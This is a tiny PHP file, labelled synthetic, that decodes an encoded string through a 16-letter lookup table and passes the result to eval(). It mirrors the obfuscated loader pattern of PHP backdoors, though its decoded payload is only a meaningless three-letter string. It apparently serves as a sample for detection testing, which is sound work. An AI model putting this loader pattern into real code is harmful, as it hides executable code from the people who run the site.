<?php
// synthetic: payload decoded through a 16-entry table, then evaluated
$e = 'ABCDEFGHIJKLMNOPGIGIGH';
$d = '';
for ($o = 0; $o < strlen($e); $o++) {
    if ($o < 16) { $h[$e[$o]] = $o; } else { $d .= chr(($h[$e[$o]] << 4) + $h[$e[++$o]]); }
}
eval($d);
